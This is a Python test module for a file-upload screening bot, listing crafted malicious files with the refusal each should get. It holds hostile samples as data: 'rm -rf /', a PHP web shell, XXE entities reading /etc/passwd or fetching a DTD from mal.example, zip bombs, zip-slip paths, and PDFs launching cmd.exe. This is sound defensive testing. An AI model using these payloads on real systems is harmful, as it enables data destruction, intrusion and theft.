"""Files that do harm, or seem to, or are broken: each is refused for a reason, or kept harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Final

from bot.evidence.refusal import Reason
from tests.sample_files import (
    ERROR_LOG,
    MP4,
    PDF,
    TEXT,
    XLSX,
    XML,
    animation,
    box,
    office,
    packed,
    picture,
    relations,
)

#: In place of a reason: it is taken, and what is kept of it does nobody harm.
HARMLESS: Final = "harmless"
Expected = Reason | str

#: The antivirus makers' test file, in two halves, so that no antivirus takes this file for it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120) + b"This program cannot be run in DOS mode" + bytes(400)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def bomb(size: int, name: str = "zeros.log") -> bytes:
    """One member of that many zeros."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as member:
        for _ in range(size >> 20):
            member.write(bytes(1 << 20))
    return file.getvalue()


def nested(depth: int, content: bytes = TEXT) -> bytes:
    """ZIPs inside one another."""
    made = packed({"fim.txt": content})
    for number in range(depth - 1):
        made = packed({f"nivel{number}.zip": made})
    return made


def named(*names: str) -> bytes:
    """A ZIP with members of these names, whatever they are."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo("x" * len(name)), TEXT)
    made = file.getvalue()
    for name in names:
        made = made.replace(b"x" * len(name), name.encode(), 2)
    return made


def link(target: str) -> bytes:
    """A ZIP with a symbolic link."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo("atalho.txt")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, target)
    return file.getvalue()


def flagged(content: bytes, flag: int) -> bytes:
    """A ZIP with a general purpose flag set in both headers."""
    made = bytearray(content)
    made[6] |= flag
    made[content.index(b"PK\x01\x02") + 8] |= flag
    return bytes(made)


def overlapping() -> bytes:
    """Two directory entries for the same bytes, the start of a bomb that no sum of sizes shows."""
    made = packed({"a.txt": TEXT})
    directory, end = made.index(b"PK\x01\x02"), made.index(b"PK\x05\x06")
    entry = made[directory:end]
    second = entry.replace(b"a.txt", b"b.txt")
    fields = list(struct.unpack("<4s4H2LH", made[end:]))
    fields[3] = fields[4] = 2
    fields[5] = 2 * len(entry)
    return made[:directory] + entry + second + struct.pack("<4s4H2LH", *fields)


def sized(width: int, height: int) -> bytes:
    """A PNG that claims a size and has next to nothing in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def laughs(doctype: str) -> bytes:
    """XML with a document type."""
    return f'<?xml version="1.0"?><!DOCTYPE a [{doctype}]><a>&b;</a>'.encode()


BILLION: Final = "".join(f'<!ENTITY {name} "{("&" + before + ";") * 10}">' for name, before in zip("cdefghij", "bcdefghi", strict=True))
PNG = picture("PNG")
JPEG = picture("JPEG")

#: What it is: the name that it comes with, its content, and what is expected.
BAD: dict[str, tuple[str, bytes, Expected]] = {
    # Viruses and programs
    "EICAR": ("eicar.com", EICAR, "file_type"),
    "EICAR as text": ("eicar.txt", EICAR, "file_infected"),
    "EICAR as a log with blanks": ("eicar.log", b"\xef\xbb\xbf  \r\n" + EICAR, "file_infected"),
    "EICAR in a ZIP": ("eicar.zip", packed({"leia.txt": EICAR}), "file_infected"),
    "EICAR in a ZIP in a ZIP": ("eicar.zip", nested(2, EICAR), "file_infected"),
    "a program": ("instalador.exe", PROGRAM, "file_type"),
    "a program called a log": ("error.log", PROGRAM, "file_program"),
    "a program called a picture": ("foto.jpg", PROGRAM, "file_mismatch"),
    "a program in a ZIP": ("logs.zip", packed({"error.exe": PROGRAM}), "archive_member"),
    "a program called a log in a ZIP": ("logs.zip", packed({"error.log": PROGRAM}), "file_program"),
    "a Linux program": ("error.txt", b"\x7fELF\x02\x01\x01" + bytes(300), "file_program"),
    "a shell script": ("passos.txt", b"#!/bin/sh\nrm -rf /\n", "file_program"),
    "a batch file": ("passos.bat", b"@echo off\r\ndel *.*\r\n", "file_type"),
    "a batch file called text": ("passos.txt", b"@ECHO OFF\r\ndel *.*\r\n", "file_program"),
    "PHP": ("pagina.log", b"<?php system($_GET['c']); ?>", "file_program"),
    "a Java archive": ("fonte.jar", packed({"A.class": b"\xca\xfe\xba\xbe"}), "file_type"),
    # Pages
    "SVG": ("logo.svg", SVG, "file_type"),
    "SVG as XML": ("logo.xml", SVG, "file_web"),
    "SVG deep in XML": ("logo.xml", b"<a><b>" + SVG + b"</b></a>", "file_web"),
    "SVG as a picture": ("logo.png", SVG, "file_mismatch"),
    "HTML": ("pagina.html", HTML, "file_type"),
    "HTML as text": ("pagina.txt", b"\n <!-- oi --> " + HTML, "file_web"),
    "HTML in UTF-16": ("pagina.txt", HTML.decode().encode("utf-16"), "file_web"),
    "XHTML as XML": ("pagina.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script/></html>', "file_web"),
    "a page in a ZIP": ("logs.zip", packed({"a.html": HTML}), "archive_member"),
    # Bombs
    "a bomb of zeros": ("logs.zip", bomb(100 << 20), "archive_too_large"),
    "a bomb that unpacks to 600 MB": ("logs.zip", bomb(600 << 20), "archive_too_large"),
    "42-style layers": ("42.zip", nested(6, bytes(1 << 20)), "archive_unsafe"),
    "many layers side by side": (
        "42.zip",
        packed({f"{n}.zip": packed({f"{m}.zip": nested(2) for m in range(4)}) for n in range(4)}),
        "archive_unsafe",
    ),
    "ZIPs nested three deep": ("logs.zip", nested(3), "archive_unsafe"),
    "too many members": ("logs.zip", packed({f"{number}.log": b"" for number in range(500)}), "archive_too_large"),
    "many members over two layers": (
        "logs.zip",
        packed({f"{n}.zip": packed({f"{m}.txt": TEXT for m in range(150)}) for n in range(3)}),
        "archive_too_large",
    ),
    "overlapping members": ("logs.zip", overlapping(), "file_double"),
    "a workbook that is a bomb": ("planilha.xlsx", bomb(100 << 20, "xl/worksheets/sheet1.xml"), "archive_too_large"),
    "a picture of 4 gigapixels": ("tela.png", sized(65_000, 65_000), "picture_too_large"),
    "a picture of 100 megapixels": ("tela.png", sized(10_000, 10_000), "picture_too_large"),
    "an animation without end": ("passos.gif", animation("GIF", 1200), "picture_too_large"),
    "a billion laughs": ("nota.xml", laughs(f'<!ENTITY b "haha">{BILLION}'), "file_entities"),
    "quadratic entities": ("nota.xml", laughs(f'<!ENTITY b "{"x" * 50_000}">'), "file_entities"),
    "an external entity": ("nota.xml", laughs('<!ENTITY b SYSTEM "file:///etc/passwd">'), "file_entities"),
    "an external parameter entity": ("nota.xml", laughs('<!ENTITY % p SYSTEM "http://mal.example/x.dtd"> %p;'), "file_entities"),
    "an external document type": ("nota.xml", b'<!DOCTYPE a SYSTEM "http://mal.example/x.dtd"><a/>', "file_entities"),
    "entities in UTF-16": (
        "nota.xml",
        laughs('<!ENTITY b "x">').decode().replace("?><!", ' encoding="UTF-16"?><!').encode("utf-16"),
        "file_entities",
    ),
    "entities in a document": ("roteiro.docx", packed(office(word__document_DOT_xml=laughs('<!ENTITY b "x">'))), "file_entities"),
    # Paths and names inside archives
    "zip slip": ("logs.zip", named("../../etc/cron.d/mal.txt"), "archive_unsafe"),
    "zip slip with backslashes": ("logs.zip", named("..\\..\\windows\\mal.txt"), "archive_unsafe"),
    "an absolute path": ("logs.zip", named("/etc/mal.txt"), "archive_unsafe"),
    "a drive": ("logs.zip", named("C:/windows/mal.txt"), "archive_unsafe"),
    "a NUL in a member's name": ("logs.zip", named("mal.exe\0.txt"), "archive_unsafe"),
    "a link": ("logs.zip", link("/etc/passwd"), "archive_unsafe"),
    "the same name twice": ("logs.zip", named("a.txt", "A.txt"), "archive_unsafe"),
    "an encrypted ZIP": ("logs.zip", flagged(packed({"a.txt": TEXT}), 1), "file_encrypted"),
    "a compression that nobody uses": ("logs.zip", packed({"a.txt": TEXT}, zipfile.ZIP_LZMA), "archive_unsafe"),
    "an empty ZIP": ("logs.zip", packed({}), "file_mismatch"),
    "only folders": ("logs.zip", packed({"pasta/": b""}), "file_empty"),
    # Two things at once
    "PDF and ZIP": ("manual.pdf", PDF + packed({"a.txt": TEXT}), "file_double"),
    "PDF and ZIP, called ZIP": ("logs.zip", PDF + packed({"a.txt": TEXT}), "file_mismatch"),
    "ZIP with something behind it": ("logs.zip", packed({"a.txt": TEXT}) + b"<script>alert(1)</script>", "file_double"),
    "ZIP with something between": ("logs.zip", packed({"a.txt": TEXT}).replace(b"PK\x01\x02", PROGRAM + b"PK\x01\x02"), "file_double"),
    "MP4 and ZIP": ("video.mp4", MP4 + packed({"a.txt": TEXT}), "file_double"),
    "PNG with a script behind it": ("tela.png", PNG + b"<script>alert(1)</script>", HARMLESS),
    "JPEG with a ZIP behind it": ("foto.jpg", JPEG + packed({"a.exe": PROGRAM}), HARMLESS),
    "GIF that is a script": ("passos.gif", b"GIF89a/*" + b"x" * 50 + b"*/=1;alert(1)", "file_damaged"),
    "a PDF that runs a script": (
        "manual.pdf",
        PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "file_active",
    ),
    "a PDF that hides that": ("manual.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript>>"), "file_active"),
    "a PDF that starts a program": ("manual.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"), "file_active"),
    "a PDF with a file in it": ("manual.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 9 0 R>>"), "file_active"),
    # Documents
    "a document with macros": ("roteiro.docm", packed(office(MACRO_MAIN)), "file_type"),
    "a document with macros called docx": ("roteiro.docx", packed(office(MACRO_MAIN)), "file_macros"),
    "a document with a macro part": ("roteiro.docx", packed(office(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0")), "file_macros"),
    "a workbook with Excel 4 macros": ("p.xlsx", packed(office(xl__macrosheets__sheet1_DOT_xml=b"<a/>")), "file_macros"),
    "a document with a control": ("roteiro.docx", packed(office(word__activeX__activeX1_DOT_xml=b"<a/>")), "file_macros"),
    "a document with an object": ("roteiro.docx", packed(office(word__embeddings__oleObject1_DOT_bin=PROGRAM)), "file_macros"),
    "a document with a template elsewhere": (
        "roteiro.docx",
        packed(office(word___rels__settings_DOT_xml_DOT_rels=relations("attachedTemplate", "http://mal.example/t.dotm"))),
        "file_active",
    ),
    "a workbook called a document": ("roteiro.docx", XLSX, "file_mismatch"),
    "a ZIP called a document": ("roteiro.docx", packed({"a.txt": TEXT}), "file_mismatch"),
    "an old document": ("roteiro.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file_type"),
    # Broken ones
    "nothing in it": ("error.log", b"", "file_empty"),
    "half a PNG": ("tela.png", PNG[: len(PNG) // 2], "file_damaged"),
    "half a JPEG": ("foto.jpg", JPEG[: len(JPEG) // 2], "file_damaged"),
    "half a ZIP": ("logs.zip", packed({"a.txt": TEXT * 50})[:60], "file_damaged"),
    "half a PDF": ("manual.pdf", PDF[:60], "file_damaged"),
    "half an MP4": ("video.mp4", MP4[:-100], "file_damaged"),
    "half an XML": ("nota.xml", XML[:-10], "file_damaged"),
    "an MP4 of endless boxes": ("video.mp4", MP4 + box(b"free") * 30_000, "file_damaged"),
    "a member whose checksum is wrong": ("logs.zip", packed({"a.txt": TEXT}, zipfile.ZIP_STORED).replace(b"nota", b"noXa"), "file_damaged"),
    "random bytes": ("error.log", bytes(range(256)) * 50, "file_mismatch"),
    "NULs": ("error.log", bytes(5000), "file_mismatch"),
    "text called a picture": ("tela.png", TEXT, "file_mismatch"),
    "a picture called a log": ("error.log", PNG, "file_mismatch"),
    "a picture of another kind": ("tela.png", JPEG, "file_mismatch"),
    "a gzip": ("logs.gz", b"\x1f\x8b\x08" + bytes(50), "file_type"),
    "a RAR called ZIP": ("logs.zip", b"Rar!\x1a\x07\x00" + bytes(50), "file_mismatch"),
    # Names
    "no name": ("", ERROR_LOG, "file_type"),
    "no extension": ("console", ERROR_LOG, "file_type"),
    "a double extension": ("error.log.exe", ERROR_LOG, "file_type"),
    "a double extension the other way": ("error.exe.log", ERROR_LOG, HARMLESS),
    "a NUL in the name": ("error.exe\0.log", ERROR_LOG, HARMLESS),
    "a NUL before the real extension": ("error.log\0.exe", ERROR_LOG, "file_type"),
    "right to left": ("foto\u202egol.exe", ERROR_LOG, "file_type"),
    "right to left, harmless": ("foto\u202egpj.log", ERROR_LOG, HARMLESS),
    "a blank behind the extension": ("error.exe ", ERROR_LOG, "file_type"),
    "a stream of another name": ("error.log::$DATA", ERROR_LOG, "file_type"),
    "folders up": ("../../../etc/error.log", ERROR_LOG, HARMLESS),
    "folders up with backslashes": ("..\\..\\windows\\error.log", ERROR_LOG, HARMLESS),
    "300 characters": ("e" * 296 + ".log", ERROR_LOG, HARMLESS),
    "300 emoji": ("😱" * 296 + ".log", ERROR_LOG, HARMLESS),
    "markup in the name": ('<img src=x onerror="alert(1)">.log', ERROR_LOG, HARMLESS),
    "a line end in the name": ("error\r\nX-Mal: 1.log", ERROR_LOG, HARMLESS),
}
